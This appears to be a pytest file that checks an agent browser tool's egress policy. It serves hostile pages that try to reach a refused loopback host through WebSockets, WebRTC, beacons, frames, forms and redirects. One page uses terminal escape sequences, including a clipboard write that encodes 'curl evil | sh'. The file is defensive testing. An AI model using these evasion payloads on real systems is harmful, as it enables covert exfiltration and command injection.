"""Hostile pages against the egress policy: every way a page can reach a host, each aimed at a
loopback "trap" host the policy refuses (127.0.0.3), which counts what arrives.

The pages are served on 127.0.0.1; the tool allows 127.0.0.1 only. A trap that sees a TCP
connection, a UDP datagram or an HTTP request means a request got past the policy.
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import anyio
import pytest
from harmony_agent import RunContext
from harmony_agent.tools import BrowserTool

pytestmark = [pytest.mark.browser, pytest.mark.anyio]

TRAP_HOST = "127.0.0.3"


@dataclass
class Trap:
    """A TCP listener and a UDP socket on 127.0.0.3 that record everything that reaches them."""

    tcp_port: int = 0
    udp_port: int = 0
    connections: list[bytes] = field(default_factory=list)
    datagrams: list[bytes] = field(default_factory=list)

    @property
    def hits(self) -> int:
        return len(self.connections) + len(self.datagrams)

    def clear(self) -> None:
        self.connections.clear()
        self.datagrams.clear()


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    tcp = socket.create_server((TRAP_HOST, 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((TRAP_HOST, 0))
    tcp.settimeout(0.2)
    udp.settimeout(0.2)
    found = Trap(tcp.getsockname()[1], udp.getsockname()[1])
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = tcp.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    found.connections.append(conn.recv(4096))
                    conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 6\r\n\r\nLEAKED")
                except OSError:
                    found.connections.append(b"")

    def receive() -> None:
        while not stop.is_set():
            try:
                found.datagrams.append(udp.recv(4096))
            except TimeoutError:
                continue

    threads = [threading.Thread(target=accept), threading.Thread(target=receive)]
    for thread in threads:
        thread.start()
    yield found
    stop.set()
    for thread in threads:
        thread.join()
    tcp.close()
    udp.close()


def pages(trap: Trap) -> dict[str, str]:
    t = f"{TRAP_HOST}:{trap.tcp_port}"
    u = f"{TRAP_HOST}:{trap.udp_port}"
    return {
        # class 7: requests that do not pass through page routing
        "/ws.html": f"""<title>ws</title><p>websockets</p><script>
            const ws = new WebSocket("ws://{t}/page");
            const src = 'new WebSocket("ws://{t}/worker")';
            new Worker(URL.createObjectURL(new Blob([src], {{type: "text/javascript"}})));
            </script>""",
        "/shared.html": """<title>shared</title><p>shared worker</p>
            <script>new SharedWorker("/shared.js");</script>""",
        "/shared.js": f'fetch("http://{t}/shared-worker").catch(() => {{}});',
        "/speculation.html": f"""<title>spec</title><p>speculation</p>
            <script type="speculationrules">{{"prefetch": [{{"source": "list",
              "urls": ["http://{t}/prefetch"]}}], "prerender": [{{"source": "list",
              "urls": ["http://{t}/prerender"]}}]}}</script>
            <link rel="prefetch" href="http://{t}/link-prefetch">""",
        "/beacon.html": f"""<title>beacon</title><p>beacon</p><script>
            addEventListener("pagehide", () => navigator.sendBeacon("http://{t}/beacon", "x"));
            </script>""",
        "/webrtc.html": f"""<title>webrtc</title><p>webrtc</p><script>
            const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:{u}"}},
              {{urls: "turn:{t}?transport=tcp", username: "u", credential: "p"}}]}});
            pc.createDataChannel("x");
            pc.createOffer().then((o) => pc.setLocalDescription(o));
            </script>""",
        "/frames.html": f"""<title>frames</title><p>data and blob frames</p>
            <iframe src="data:text/html,<script>fetch('http://{t}/from-data')</script>"></iframe>
            <script>
            const html = "<script>fetch('http://{t}/from-blob')<" + "/script>";
            const f = document.createElement("iframe");
            f.src = URL.createObjectURL(new Blob([html], {{type: "text/html"}}));
            document.body.append(f);
            </script>""",
        # class 9: navigation-style requests
        "/navigations.html": f"""<title>navigations</title><p>navigations</p>
            <iframe src="http://{t}/iframe"></iframe>
            <object data="http://{t}/object"></object>
            <embed src="http://{t}/embed">
            <form id="f" action="http://{t}/form" method="post" target="sink">
              <input name="a" value="b"></form><iframe name="sink"></iframe>
            <script>
            document.getElementById("f").submit();
            window.open("http://{t}/window-open");
            </script>""",
        "/blank.html": "<title>blank</title><p>nothing here</p>",
        "/ws-allowed.html": """<title>ws allowed</title><p>an allowed websocket</p><script>
            window.got = null;
            const ws = new WebSocket(`ws://${location.host}/echo`);
            ws.onmessage = (m) => { window.got = m.data; };
            </script>""",
        # class 10: terminal control sequences in page text
        "/controls.html": r"""<title>controls</title><p id="p">x</p><script>
            document.title = "Title\x1b]0;pwned\x07 end";
            document.getElementById("p").textContent =
              "clip\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 clear\x1b[2J csi\u009b2J bell\x07 done";
            </script>""",
    }


@pytest.fixture(scope="module")
def hostile(trap: Trap) -> Iterator[str]:
    served = pages(trap)

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            if self.path == "/echo":  # a WebSocket handshake, then one text frame
                key = self.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
                accept = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
                self.send_response(101)
                self.send_header("upgrade", "websocket")
                self.send_header("connection", "Upgrade")
                self.send_header("sec-websocket-accept", accept)
                self.end_headers()
                self.wfile.write(b"\x81\x08through!")
                self.wfile.flush()
                self.close_connection = True
                return
            body = served.get(self.path.split("?")[0])
            if body is None:
                self.send_error(404)
                return
            ctype = "text/javascript" if self.path.endswith(".js") else "text/html"
            data = body.encode()
            self.send_response(200)
            self.send_header("content-type", ctype + "; charset=utf-8")
            self.send_header("content-length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    thread.join()
    server.server_close()


async def open_page(tool: BrowserTool, ctx: RunContext, url: str) -> str:
    (fn,) = [t for t in tool.tools() if t.name == "open"]
    result = await fn.invoke(json.dumps({"id": url}), ctx)
    assert result.ok, result.text
    return result.text


async def wait_for_page_activity(seconds: float = 1.5) -> None:
    await anyio.sleep(seconds)  # the pages act on load and after; give them time to try


@pytest.mark.parametrize(
    "page", ["/ws.html", "/shared.html", "/speculation.html", "/webrtc.html", "/frames.html"]
)
async def test_requests_outside_page_routing_do_not_reach_a_blocked_host(hostile, trap, page):
    """WebSockets (page and worker), SharedWorker fetches, speculation rules, WebRTC STUN/TURN,
    data: and blob: frames: all of them go through the policy."""
    trap.clear()
    tool = BrowserTool(allow_private_network=["127.0.0.1"])
    async with RunContext.open() as ctx:
        view = await open_page(tool, ctx, hostile + page)
        assert "LEAKED" not in view
        await wait_for_page_activity()
    assert trap.connections == [] and trap.datagrams == []


async def test_an_allowed_websocket_works_through_the_proxy_tunnel(hostile):
    tool = BrowserTool(allow_private_network=["127.0.0.1"])
    async with RunContext.open() as ctx:
        await open_page(tool, ctx, hostile + "/ws-allowed.html")
        page = (await tool.state(ctx)).page
        with anyio.fail_after(10):
            while await page.evaluate("window.got") is None:
                await anyio.sleep(0.1)
        assert await page.evaluate("window.got") == "through!"


async def test_a_beacon_sent_on_pagehide_does_not_reach_a_blocked_host(hostile, trap):
    trap.clear()
    tool = BrowserTool(allow_private_network=["127.0.0.1"])
    async with RunContext.open() as ctx:
        await open_page(tool, ctx, hostile + "/beacon.html")
        await open_page(tool, ctx, hostile + "/blank.html")  # the first page is hidden
        await wait_for_page_activity()
    assert trap.connections == []


async def test_data_and_blob_documents_follow_the_policy(hostile, trap):
    """A data: or blob: document is not a way around the allow list: open refuses them."""
    tool = BrowserTool(allow_private_network=["127.0.0.1"], allow_domains=["127.0.0.1"])
    (fn,) = [t for t in tool.tools() if t.name == "open"]
    page = f"data:text/html,<script>fetch('http://{TRAP_HOST}:{trap.tcp_port}/x')</script>hi"
    async with RunContext.open() as ctx:
        for url in (page, "blob:http://127.0.0.1/0d1e"):
            result = await fn.invoke(json.dumps({"id": url}), ctx)
            assert not result.ok and "blocked by the `scheme` rule" in result.text, result.text


async def test_navigation_requests_open_no_connection_to_a_blocked_host(hostile, trap):
    """iframe, object, embed, form submit and window.open to a refused host: not even a TCP
    connection reaches it (the trap counts accepted connections)."""
    trap.clear()
    tool = BrowserTool(allow_private_network=["127.0.0.1"])
    async with RunContext.open() as ctx:
        await open_page(tool, ctx, hostile + "/navigations.html")
        await wait_for_page_activity()
    assert trap.connections == []


# --- redirects (class 8) -----------------------------------------------------------------------


async def test_redirect_hops_are_checked_before_they_are_sent(site):
    """A 302 from an allowed page to a refused host, for the page and for its sub-resources:
    the hop is refused before anything is sent to that host."""
    base, hits = site
    hits["blocked"].clear()
    tool = BrowserTool(allow_private_network=["127.0.0.1"])
    async with RunContext.open() as ctx:
        (fn,) = [t for t in tool.tools() if t.name == "open"]
        result = await fn.invoke(json.dumps({"id": f"{base}/to-private"}), ctx)
        assert not result.ok and "127.0.0.3" in result.text, result.text
        view = await open_page(tool, ctx, f"{base}/redirect-fetch.html")
        await wait_for_page_activity(0.5)
        assert "fetched:" not in view
    assert hits["blocked"] == []


async def test_the_redirect_limit_stops_the_chain_at_the_limit(site):
    base, hits = site
    tool = BrowserTool(allow_private_network=["127.0.0.1"], max_redirects=2)
    async with RunContext.open() as ctx:
        (fn,) = [t for t in tool.tools() if t.name == "open"]
        hits["main"].clear()
        ok = await fn.invoke(json.dumps({"id": f"{base}/redirect/1"}), ctx)  # 2 hops: allowed
        assert ok.ok and ok.text.startswith("[0] An article"), ok.text
        hits["main"].clear()
        result = await fn.invoke(json.dumps({"id": f"{base}/redirect/14"}), ctx)
        assert not result.ok and "redirects" in result.text and "limit is 2" in result.text
        sent = [p for p in hits["main"] if p.startswith("/redirect/")]
    assert sent == ["/redirect/14", "/redirect/13", "/redirect/12"]  # the request and 2 hops


# --- terminal controls in page text (class 10) --------------------------------------------------


async def test_page_text_reaches_the_model_without_terminal_controls(hostile):
    tool = BrowserTool(allow_private_network=["127.0.0.1"], automation=True)
    snapshot = next(t for t in tool.tools() if t.name == "browser_snapshot")
    async with RunContext.open() as ctx:
        view = await open_page(tool, ctx, hostile + "/controls.html")
        snap = (await snapshot.invoke("{}", ctx)).text
    for text in (view, snap):
        assert "clip" in text and "done" in text, text
        assert not any(c in text for c in "\x1b\x07\x9b"), ascii(text)
